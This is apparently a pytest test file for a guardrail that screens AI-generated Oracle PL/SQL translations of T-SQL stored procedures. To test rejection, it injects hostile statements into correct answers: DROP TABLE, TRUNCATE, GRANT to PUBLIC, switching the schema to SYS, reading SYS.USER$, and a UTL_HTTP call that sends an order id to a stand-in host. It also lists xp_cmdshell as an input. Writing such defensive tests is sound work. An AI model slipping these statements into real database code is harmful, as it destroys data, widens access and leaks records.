"""The output guardrail against hostile and sloppy model answers."""

from __future__ import annotations

import pytest

from migrator.model.guardrail import allowed_kinds, clean, guard, oracle_kinds, residue

TSQL = """CREATE PROCEDURE dbo.usp_CloseOrder @OrderId INT
AS
BEGIN
  SET NOCOUNT ON;
  UPDATE dbo.Orders SET Status = 'CLOSED', ClosedAt = GETDATE() WHERE OrderId = @OrderId;
  SELECT OrderId, Status FROM dbo.Orders WHERE OrderId = @OrderId;
END
"""

GOOD = """CREATE OR REPLACE PROCEDURE USP_CLOSEORDER (
  p_orderid IN NUMBER
) AS
  v_result_set1 SYS_REFCURSOR;
BEGIN
  -- MIGRATION NOTE [MODEL]: GETDATE() -> SYSTIMESTAMP
  UPDATE ORDERS SET STATUS = 'CLOSED', CLOSEDAT = SYSTIMESTAMP WHERE ORDERID = p_orderid;
  OPEN v_result_set1 FOR
    SELECT ORDERID, STATUS FROM ORDERS WHERE ORDERID = p_orderid;
  DBMS_SQL.RETURN_RESULT(v_result_set1);
END USP_CLOSEORDER;
/"""

KNOWN = {"ORDERS", "ORDERID", "STATUS", "CLOSEDAT", "AUDIT_LOG"}


def body_with(extra: str) -> str:
    """GOOD with ``extra`` inserted as the first statement of the body."""
    return GOOD.replace("BEGIN\n", "BEGIN\n  " + extra + "\n", 1)


def rejected(answer: str, *fragments: str, tsql: str = TSQL, **kw) -> list[str]:
    res = guard(tsql, answer, known_names=KNOWN, **kw)
    assert not res.ok, res
    text = "\n".join(res.reasons)
    for f in fragments:
        assert f in text, f"{f!r} not in {res.reasons}"
    return res.reasons


def test_good_answer_passes_unchanged():
    res = guard(TSQL, GOOD, known_names=KNOWN)
    assert res.ok, res.reasons
    assert res.code == GOOD
    assert "CREATE PROCEDURE" in res.kinds and "UPDATE" in res.kinds


def test_markdown_fences_and_prose_are_stripped():
    answer = ("Sure! Here is the converted Oracle code:\n\n```sql\n" + GOOD + "\n```\n\n"
              "Explanation:\n- GETDATE() was replaced by SYSTIMESTAMP.\n- The result set is returned with "
              "DBMS_SQL.RETURN_RESULT.\n")
    res = guard(TSQL, answer, known_names=KNOWN)
    assert res.ok, res.reasons
    assert res.code == GOOD  # the -- comment inside the code is kept


def test_prose_without_fences_is_stripped():
    answer = "Here is the Oracle version of the procedure:\n" + GOOD + "\nThis version uses a SYS_REFCURSOR.\n"
    res = guard(TSQL, answer, known_names=KNOWN)
    assert res.ok, res.reasons
    assert res.code == GOOD


def test_extra_drop_table_is_rejected():
    rejected(GOOD + "\nDROP TABLE ORDERS;\n", "adds DROP TABLE")
    rejected(body_with("DROP TABLE ORDERS;"), "adds DROP TABLE")


def test_truncate_and_grant_are_rejected():
    rejected(body_with("EXECUTE IMMEDIATE 'TRUNCATE TABLE ORDERS';"), "adds TRUNCATE", "adds EXECUTE IMMEDIATE")
    rejected(GOOD + "\nGRANT EXECUTE ON USP_CLOSEORDER TO PUBLIC;\n", "adds GRANT")
    rejected(GOOD + "\nREVOKE SELECT ON ORDERS FROM PUBLIC;\n", "adds REVOKE")


def test_dynamic_sql_hiding_a_drop_is_rejected():
    reasons = rejected(body_with("EXECUTE IMMEDIATE 'DROP TABLE ' || 'ORDERS';"), "adds EXECUTE IMMEDIATE")
    assert any("DROP TABLE" in r for r in reasons)


def test_other_statements_than_asked_are_rejected():
    # a function instead of the procedure
    func = GOOD.replace("PROCEDURE USP_CLOSEORDER", "FUNCTION USP_CLOSEORDER").replace(
        ") AS", ") RETURN NUMBER AS", 1)
    rejected(func, "adds CREATE FUNCTION", "missing CREATE PROCEDURE USP_CLOSEORDER")
    # an extra DML statement, a COMMIT, a session change
    rejected(body_with("INSERT INTO AUDIT_LOG (ORDERID) VALUES (p_orderid);"), "adds INSERT")
    rejected(body_with("COMMIT;"), "adds COMMIT")
    rejected(GOOD + "\nALTER SESSION SET CURRENT_SCHEMA = SYS;\n", "adds ALTER SESSION")
    # a second procedure, and the right kind under another name
    other = GOOD.replace("USP_CLOSEORDER", "USP_PURGE")
    rejected(GOOD + "\n" + other, "defines PROCEDURE USP_PURGE")
    rejected(other, "missing CREATE PROCEDURE USP_CLOSEORDER")
    # a package reaching outside the database
    rejected(body_with("UTL_HTTP.REQUEST('http://example.invalid/?id=' || p_orderid);"), "adds EXTERNAL UTL_HTTP")


def test_defined_name_follows_the_name_map():
    renamed = GOOD.replace("USP_CLOSEORDER", "CLOSE_ORDER")
    names = [("usp_CloseOrder", "CLOSE_ORDER")]
    assert guard(TSQL, renamed, known_names=KNOWN, names=names).ok
    rejected(GOOD, "missing CREATE PROCEDURE CLOSE_ORDER", names=names)


def test_identifiers_outside_the_catalog_are_rejected():
    rejected(GOOD.replace("UPDATE ORDERS SET", "UPDATE ORDERS_BACKUP SET"), "unknown object ORDERS_BACKUP")
    rejected(GOOD.replace("FROM ORDERS WHERE", "FROM SYS.USER$ WHERE"), "unknown object USER$")
    rejected(body_with("PURGE_EVERYTHING(p_orderid);"), "PURGE_EVERYTHING")
    # the catalog, the source and Oracle built-ins are fine
    assert guard(TSQL, body_with("DBMS_OUTPUT.PUT_LINE(TO_CHAR(SYSDATE, 'YYYY'));"), known_names=KNOWN).ok
    assert guard(TSQL, GOOD, known_names=set()).ok  # ORDERS is in the T-SQL source


def test_huge_output_is_rejected():
    huge = GOOD + "\n" + "\n".join(f"-- padding line {i}" for i in range(2000))
    rejected(huge, "too long")
    rejected("x" * 10_000_000, "too long")
    rejected(GOOD, "too long", max_chars=100)
    assert guard(TSQL, GOOD, known_names=KNOWN, max_chars=len(GOOD)).ok


def test_tsql_residue_is_rejected():
    leftover = (GOOD.replace("SYSTIMESTAMP WHERE", "GETDATE() WHERE")
                .replace("SELECT ORDERID", "SELECT TOP 10 ORDERID").replace("= p_orderid;", "= @OrderId;", 1))
    reasons = rejected(leftover, "T-SQL function GETDATE()", "TOP n", "T-SQL variable @OrderId")
    assert all("residue" in r or r.startswith(("PLS", "ORA")) for r in reasons)
    rejected(body_with("SET NOCOUNT ON;"), "SET NOCOUNT ON")
    # the T-SQL itself as the answer
    rejected(TSQL, "T-SQL variable @OrderId", "SET NOCOUNT ON")


@pytest.mark.parametrize("answer", ["", "   \n", "```sql\n```", "I cannot convert this procedure, sorry.",
                                    "-- nothing to do\n/* really */"])
def test_empty_output_is_rejected(answer):
    rejected(answer, "empty")


def test_migration_todo_in_the_answer_is_rejected():
    rejected(body_with("-- MIGRATION TODO [MODEL]: not sure about this"), "MIGRATION TODO")


def test_syntax_errors_come_from_the_validator():
    reasons = rejected(GOOD.replace("WHERE ORDERID = p_orderid;\n  OPEN", "WHERE ORDERID = = p_orderid;\n  OPEN"))
    assert any(r.startswith(("PLS-", "ORA-")) and "line" in r for r in reasons)


def test_missing_slash_is_added_but_never_after_sql():
    res = guard(TSQL, GOOD[:-2], known_names=KNOWN)
    assert res.ok, res.reasons
    assert res.code.endswith("END USP_CLOSEORDER;\n/")
    src = "UPDATE dbo.Orders SET Status = 'X' WHERE OrderId = 1"
    res = guard(src, "UPDATE ORDERS SET STATUS = 'X' WHERE ORDERID = 1;", known_names=KNOWN)
    assert res.ok, res.reasons
    assert not res.code.rstrip().endswith("/")


def test_temp_tables_may_become_global_temporary_tables():
    src = """CREATE PROCEDURE dbo.FillTmp AS
BEGIN
  CREATE TABLE #tmp (id INT);
  INSERT INTO #tmp SELECT OrderId FROM dbo.Orders;
  DROP TABLE #tmp;
END"""
    answer = """CREATE GLOBAL TEMPORARY TABLE TT_TMP (ID NUMBER(10)) ON COMMIT PRESERVE ROWS;

CREATE OR REPLACE PROCEDURE FILLTMP AS
BEGIN
  DELETE FROM TT_TMP;
  INSERT INTO TT_TMP SELECT ORDERID FROM ORDERS;
  DELETE FROM TT_TMP;
END FILLTMP;
/"""
    res = guard(src, answer, known_names=KNOWN)
    assert res.ok, res.reasons
    rejected(answer.replace("TT_TMP", "SCRATCH"), "TABLE SCRATCH", tsql=src)
    rejected(answer.replace("  DELETE FROM TT_TMP;\nEND", "  EXECUTE IMMEDIATE 'DROP TABLE TT_TMP';\nEND"),
             "adds DROP TABLE", tsql=src)


@pytest.mark.parametrize("tsql,must,must_not", [
    ("CREATE PROC p AS SELECT 1", {"CREATE PROCEDURE"}, {"EXECUTE IMMEDIATE", "DROP PROCEDURE"}),
    ("BEGIN TRAN; UPDATE t SET a = 1; COMMIT;", {"COMMIT", "ROLLBACK", "SAVEPOINT", "UPDATE", "MERGE"}, {"DELETE"}),
    ("EXEC sp_executesql @sql, N'@p INT', @p = 1", {"EXECUTE IMMEDIATE"}, {"DROP TABLE"}),
    ("EXEC (N'DROP TABLE dbo.Old')", {"EXECUTE IMMEDIATE", "DROP TABLE"}, set()),
    ("SELECT a INTO #t FROM x", {"CREATE TABLE", "INSERT", "DELETE"}, {"DROP TABLE"}),
    ("SELECT a INTO archive FROM x", {"CREATE TABLE", "INSERT"}, {"DELETE"}),
    ("DROP TABLE #t", {"DELETE"}, {"DROP TABLE"}),
    ("DROP TABLE IF EXISTS dbo.Old", {"DROP TABLE", "EXECUTE IMMEDIATE"}, set()),
    ("TRUNCATE TABLE dbo.Stage", {"TRUNCATE"}, set()),
    ("CREATE TRIGGER tr ON t AFTER INSERT, DELETE AS SELECT 1", {"CREATE TRIGGER"}, {"INSERT", "DELETE"}),
    ("DECLARE @rows TABLE (id INT); INSERT INTO @rows VALUES (1)", {"CREATE TABLE", "INSERT"}, {"UPDATE"}),
    ("MERGE dbo.t AS t USING s ON t.id = s.id WHEN MATCHED THEN DELETE;", {"MERGE", "DELETE"}, {"TRUNCATE"}),
    ("CREATE TABLE t (id INT IDENTITY(1,1))", {"CREATE TABLE", "CREATE SEQUENCE"}, {"DROP TABLE"}),
    ("SELECT * FROM t WHERE note = 'a DROP TABLE x is just text'", set(), {"DROP TABLE"}),
    ("EXEC xp_cmdshell 'dir'", {"EXTERNAL"}, set()),
])
def test_allowed_kinds_maps_tsql_to_oracle(tsql, must, must_not):
    kinds = allowed_kinds(tsql)
    assert must <= kinds, kinds
    assert not (must_not & kinds), kinds


@pytest.mark.parametrize("text,kinds", [
    ("SELECT * FROM t FOR UPDATE OF a NOWAIT;", set()),
    ("CREATE GLOBAL TEMPORARY TABLE tt (a NUMBER) ON COMMIT PRESERVE ROWS;", {"CREATE TABLE"}),
    ("CREATE OR REPLACE TRIGGER trg BEFORE UPDATE OR DELETE ON t FOR EACH ROW BEGIN NULL; END;\n/",
     {"CREATE TRIGGER"}),
    ("CREATE TABLE c (id NUMBER REFERENCES p (id) ON DELETE CASCADE);", {"CREATE TABLE"}),
    ("BEGIN\n  -- DROP TABLE x; TRUNCATE TABLE y\n  DBMS_OUTPUT.PUT_LINE('please drop the table');\nEND;\n/", set()),
    ("BEGIN EXECUTE IMMEDIATE 'DROP TABLE x'; END;\n/", {"EXECUTE IMMEDIATE", "DROP TABLE"}),
    ("MERGE INTO t USING s ON (t.id = s.id) WHEN MATCHED THEN UPDATE SET t.a = s.a DELETE WHERE t.a = 0;",
     {"MERGE"}),
    ("DELETE t WHERE a = 1;", {"DELETE"}),
    ("UPDATE t x SET x.a = 1;", {"UPDATE"}),
    ("ALTER TABLE t DROP COLUMN c;", {"ALTER TABLE"}),
])
def test_oracle_kinds(text, kinds):
    assert oracle_kinds(text) == kinds


def test_residue_finds_tsql_leftovers():
    text = """DECLARE @n INT;
SELECT TOP 5 [Name], ISNULL(a, 0), LEN(b), CHARINDEX('x', c), DATEADD(day, 1, d) FROM #tmp WITH (NOLOCK);
SET NOCOUNT ON
GO
x += 1;
CREATE TABLE t (id INT IDENTITY(1,1), n NVARCHAR(MAX));
BEGIN TRAN
BEGIN TRY SELECT 1 END TRY BEGIN CATCH RAISERROR('x', 16, 1) END CATCH
EXEC ('SELECT @@ROWCOUNT')
"""
    found = "\n".join(residue(text))
    for what in ("@n", "TOP n", "[Name]", "ISNULL()", "LEN()", "CHARINDEX()", "DATEADD()", "#tmp", "NOLOCK",
                 "SET NOCOUNT ON", "GO batch separator", "+=", "IDENTITY(seed", "NVARCHAR(MAX)", "BEGIN TRAN",
                 "BEGIN TRY", "RAISERROR", "T-SQL EXEC", "@@ROWCOUNT"):
        assert what in found, what


def test_residue_is_quiet_on_oracle():
    text = """CREATE TABLE T (ID NUMBER(10) GENERATED BY DEFAULT AS IDENTITY (START WITH 1) NOT NULL);
-- T-SQL was: SELECT TOP 1 @x = ISNULL([a], 0) FROM #t
/* GETDATE() */
DECLARE
  v_x NUMBER := 1;
  v_c INTEGER;
BEGIN
  v_c := DBMS_SQL.OPEN_CURSOR;
  DBMS_SQL.PARSE(v_c, 'SELECT 1 FROM DUAL', DBMS_SQL.NATIVE);
  SELECT COUNT(*) INTO v_x FROM A LEFT JOIN B ON A.ID (+)= B.ID WHERE A.X >= 1 AND A.Y != 2 AND A.Z <= 3;
  SELECT COUNT(*) INTO v_x FROM REMOTE_T@DBLINK;
  DBMS_OUTPUT.PUT_LINE('cost: @' || TO_CHAR(v_x) || ' [approx]');
END;
/"""
    assert residue(text) == []


def test_clean_handles_unclosed_and_several_fences():
    assert clean("```sql\nSELECT 1 FROM DUAL;\n") == "SELECT 1 FROM DUAL;"
    two = "First the table:\n```sql\nCREATE TABLE A (X NUMBER);\n```\nThen:\n```\nSELECT X FROM A;\n```\nDone."
    assert clean(two) == "CREATE TABLE A (X NUMBER);\n\nSELECT X FROM A;"
    assert clean("select amount, status from orders where id = p_id;") == \
        "select amount, status from orders where id = p_id;"


def test_clean_keeps_lower_case_code_with_english_looking_names():
    code = "update the_orders\n   set the_status = 'X'\n where the_id = 1;"
    assert clean("Here is the converted code:\n" + code + "\nThis keeps the semantics.") == code


def test_error_logging_in_catch_may_use_an_autonomous_transaction():
    src = ("CREATE PROCEDURE dbo.p AS BEGIN TRY DELETE FROM dbo.Orders; END TRY\n"
           "BEGIN CATCH INSERT INTO dbo.ErrLog (Msg) VALUES (ERROR_MESSAGE()); THROW; END CATCH")
    assert {"AUTONOMOUS TRANSACTION", "COMMIT"} <= allowed_kinds(src)
    assert "COMMIT" not in allowed_kinds("CREATE PROCEDURE dbo.p AS BEGIN TRY DELETE FROM dbo.Orders; END TRY\n"
                                         "BEGIN CATCH THROW; END CATCH")
